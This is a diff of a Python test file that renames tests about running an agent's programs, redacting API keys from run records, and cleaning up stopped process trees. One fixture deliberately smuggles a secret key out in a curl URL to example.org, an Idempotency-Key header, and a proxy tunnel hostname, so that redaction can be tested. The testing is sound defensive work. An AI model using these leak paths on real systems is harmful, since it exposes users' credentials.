@@ -1,4 +1,4 @@
-"""`--agent command`: programs of one's own, with their files, keys and hosts."""
+"""`--agent command`: programs of the user, with their files, keys and hosts."""
 
 from __future__ import annotations
 
@@ -21,7 +21,7 @@ from server_helpers import AS_USER, COMMAND, with_task
 SECRET = "a-key-that-is-never-recorded"
 
 
-def test_what_a_program_is_given(tmp_path):
+def test_files_and_variables_of_a_program(tmp_path):
     """It finds what lies beside it and what it is shown; a variable comes by name, and its value is in no record."""
     mine, data, run = tmp_path / "mine", tmp_path / "data", tmp_path / "run"
     for folder in (mine, data):
@@ -62,9 +62,9 @@ class Policy:
 open("notes.txt", "w").write(f"curl https://example.org/?key={key}\\npip install {'x' * 80}{key}\\n")
 api = urllib.parse.urlsplit(os.environ["EVOPOLICYGYM_SUBMIT_URL"])
 for _ in range(2):
-    door = http.client.HTTPConnection(api.netloc)
-    door.request("POST", api.path, json.dumps({"env_instances": [0]}), {"Idempotency-Key": f"mine-{key}"})
-    print(door.getresponse().status)
+    connection = http.client.HTTPConnection(api.netloc)
+    connection.request("POST", api.path, json.dumps({"env_instances": [0]}), {"Idempotency-Key": f"mine-{key}"})
+    print(connection.getresponse().status)
 proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
 tunnel = http.client.HTTPConnection(proxy.netloc)
 tunnel.set_tunnel(f"{key.upper()}.invalid", 443)
@@ -75,7 +75,7 @@ except OSError as error:
 """
 
 
-def test_what_an_agent_writes_into_the_record_is_without_its_keys(tmp_path):
+def test_api_keys_are_removed_from_the_record(tmp_path):
     """As an Idempotency-Key, as the text of an exception, as the name of a host, as a sign in its workspace."""
     (tmp_path / "agent.py").write_text(LEAKING)
     run, page = tmp_path / "run", tmp_path / "page.html"
@@ -190,7 +190,7 @@ STOPPED_TOO = [("A", signal.SIGKILL), ("B", signal.SIGINT), ("none", signal.SIGI
 @pytest.mark.parametrize(
     ("level", "number"), [*STOPPED, *(pytest.param(*case, marks=pytest.mark.slow) for case in STOPPED_TOO)]
 )
-def test_nobody_is_left(level, number, tmp_path):
+def test_a_stopped_run_leaves_no_process(level, number, tmp_path):
     """Of a tree with a daemon in a session of its own, when its run is stopped or killed; what there was is scored."""
     name = f"{os.getpid()}{int(number)}.{level}"
     tree = f"""
